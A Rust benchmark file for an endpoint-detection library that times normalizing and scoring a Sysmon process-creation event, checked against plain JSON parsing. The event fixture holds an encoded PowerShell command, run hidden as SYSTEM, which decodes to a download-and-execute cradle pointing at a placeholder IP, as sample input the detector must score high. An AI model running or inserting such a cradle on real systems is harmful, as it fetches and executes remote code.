//! normalize + score of an on-host process event: a ~4 KB Sysmon 1 record as
//! NXLog/Logstash flatten it (the shape of the OTRF datasets, `Message` included), for an
//! encoded PowerShell under the SSM agent, and the same in ECS (Winlogbeat).
//!
//! Ratios against parsing the same text into `serde_json::Value`, measured side by side in the
//! same process (ratios travel between machines; absolute times do not). Target: ≤ 10 µs median.

#![recursion_limit = "512"]

use std::hint::black_box;
use std::time::Instant;

use cadet_core::{normalize, score, Policy};
use criterion::{criterion_group, Criterion};

const ORCH: &str = r"C:\ProgramData\Amazon\SSM\InstanceData\i-0b7e3c9d2a4f61835\document\orchestration\3f1c2b7a-9d4e-4c1b-8a6f-0e2d5c7b9a11\awsrunPowerShellScript\0.awsrunPowerShellScript";

/// A Sysmon 1 record, NXLog-flattened, with its rendered `Message` (as the OTRF records are).
pub fn sysmon_flat() -> String {
    let ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    let cmd = "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA2ADYALwBhACcAKQA=";
    let parent_cmd = format!("\"{ps}\" -InputFormat None -Noninteractive -NoProfile -ExecutionPolicy unrestricted -f {ORCH}\\_script.ps1");
    let message = format!(
        "Process Create:\r\nRuleName: -\r\nUtcTime: 2026-10-03 02:13:10.077\r\nProcessGuid: {{6f1e2d3c-4b5a-6978-8a9b-0c1d2e3f4a02}}\r\nProcessId: 6244\r\nImage: {ps}\r\nFileVersion: 10.0.20348.1\r\nDescription: Windows PowerShell\r\nProduct: Microsoft® Windows® Operating System\r\nCompany: Microsoft Corporation\r\nOriginalFileName: PowerShell.EXE\r\nCommandLine: {cmd}\r\nCurrentDirectory: {ORCH}\\\r\nUser: NT AUTHORITY\\SYSTEM\r\nLogonGuid: {{6f1e2d3c-0000-0000-e703-000000000000}}\r\nLogonId: 0x3E7\r\nTerminalSessionId: 0\r\nIntegrityLevel: System\r\nHashes: SHA1=FE7974274184E49303EF3DEE6CC813F29A34DF8F,MD5=67D5E74AEA95D2550B43BAE19BF489D0,SHA256=15D7A1E123925BBE95F1E0D4FF99A98839FA77121D0B7CB90C7B079E1E41A053\r\nParentProcessGuid: {{6f1e2d3c-4b5a-6978-8a9b-0c1d2e3f4a01}}\r\nParentProcessId: 5120\r\nParentImage: {ps}\r\nParentCommandLine: {parent_cmd}"
    );
    serde_json::json!({
        "@version": "1", "EventType": "INFO", "AccountType": "User", "ThreadID": 4208,
        "Channel": "Microsoft-Windows-Sysmon/Operational", "OriginalFileName": "PowerShell.EXE",
        "Hostname": "EC2AMAZ-7Q4R2LM.corp.example", "@timestamp": "2026-10-03T02:13:10.896Z",
        "ParentCommandLine": parent_cmd, "ProcessId": "6244", "ParentProcessId": "5120",
        "host": "wec.corp.example", "Severity": "INFO", "SeverityValue": 2, "Image": ps,
        "LogonGuid": "{6f1e2d3c-0000-0000-e703-000000000000}", "SourceModuleType": "im_msvistalog",
        "FileVersion": "10.0.20348.1", "Version": 5, "Company": "Microsoft Corporation",
        "EventTime": "2026-10-02 22:13:10", "Task": 1, "SourceName": "Microsoft-Windows-Sysmon",
        "CurrentDirectory": format!("{ORCH}\\"), "Message": message, "IntegrityLevel": "System",
        "CommandLine": cmd, "ParentImage": ps, "SourceModuleName": "eventlog", "LogonId": "0x3e7",
        "port": 60122, "AccountName": "SYSTEM", "EventReceivedTime": "2026-10-02 22:13:10",
        "UtcTime": "2026-10-03 02:13:10.077", "Domain": "NT AUTHORITY", "ExecutionProcessID": 3888,
        "User": "NT AUTHORITY\\SYSTEM", "Description": "Windows PowerShell", "TerminalSessionId": "0",
        "ParentProcessGuid": "{6f1e2d3c-4b5a-6978-8a9b-0c1d2e3f4a01}", "UserID": "S-1-5-18", "EventID": 1,
        "Product": "Microsoft® Windows® Operating System", "ProviderGuid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
        "RecordNumber": 88102, "Keywords": -9223372036854775808i64,
        "ProcessGuid": "{6f1e2d3c-4b5a-6978-8a9b-0c1d2e3f4a02}", "tags": ["cadet"], "RuleName": "-"
    })
    .to_string()
}

/// The same process in ECS, as Winlogbeat ships it.
pub fn sysmon_ecs() -> String {
    let ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    serde_json::json!({
        "@timestamp": "2026-10-03T02:13:10.077Z", "agent": {"type": "winlogbeat", "version": "8.15.0"},
        "event": {"code": "1", "kind": "event", "provider": "Microsoft-Windows-Sysmon", "action": "Process Create (rule: ProcessCreate)",
            "category": ["process"], "type": ["start"], "module": "sysmon"},
        "host": {"name": "EC2AMAZ-7Q4R2LM", "os": {"family": "windows"}},
        "process": {"pid": 6244, "entity_id": "{6f1e2d3c-4b5a-6978-8a9b-0c1d2e3f4a02}", "name": "powershell.exe", "executable": ps,
            "command_line": "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
            "working_directory": ORCH,
            "parent": {"pid": 5120, "name": "powershell.exe", "executable": ps,
                "command_line": format!("\"{ps}\" -NoProfile -ExecutionPolicy unrestricted -f {ORCH}\\_script.ps1")}},
        "user": {"domain": "NT AUTHORITY", "name": "SYSTEM"},
        "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "1", "record_id": 88102, "computer_name": "EC2AMAZ-7Q4R2LM"}
    })
    .to_string()
}

fn bench(c: &mut Criterion) {
    let policy = Policy::default();
    for (name, text) in [("sysmon_flat", sysmon_flat()), ("sysmon_ecs", sysmon_ecs())] {
        let mut g = c.benchmark_group(name);
        g.bench_function("baseline_serde_json_value", |b| {
            b.iter(|| black_box(serde_json::from_str::<serde_json::Value>(black_box(&text)).ok()))
        });
        g.bench_function("normalize_score", |b| {
            b.iter(|| {
                let ev = normalize(black_box(&text)).ok().flatten();
                black_box(ev.map(|e| score(&e, &policy)))
            })
        });
        g.finish();
    }
}

fn median_ns(mut f: impl FnMut()) -> f64 {
    let mut samples = Vec::with_capacity(51);
    for _ in 0..51 {
        let start = Instant::now();
        for _ in 0..2000 {
            f();
        }
        samples.push(start.elapsed().as_nanos() as f64 / 2000.0);
    }
    samples.sort_by(|a, b| a.total_cmp(b));
    samples[samples.len() / 2]
}

fn ratios() {
    let policy = Policy::default();
    for (name, text) in [("sysmon_flat", sysmon_flat()), ("sysmon_ecs", sysmon_ecs())] {
        let verdict = normalize(&text).ok().flatten().map(|e| score(&e, &policy));
        assert!(
            verdict.as_ref().is_some_and(|v| v.risk_score >= 60),
            "{name}: the bench input must be an agent process scored high"
        );
        let base = median_ns(|| {
            black_box(serde_json::from_str::<serde_json::Value>(black_box(&text)).ok());
        });
        let ns = median_ns(|| {
            let ev = normalize(black_box(&text)).ok().flatten();
            black_box(ev.map(|e| score(&e, &policy)));
        });
        println!("{name}: input {} bytes", text.len());
        println!(
            "  baseline serde_json::Value parse: {:.2} µs (median)",
            base / 1000.0
        );
        println!(
            "  normalize+score:                  {:.2} µs (median)",
            ns / 1000.0
        );
        println!("  ratio normalize+score / Value parse: {:.2}", ns / base);
    }
}

criterion_group!(benches, bench);

fn main() {
    benches();
    Criterion::default().configure_from_args().final_summary();
    ratios();
}
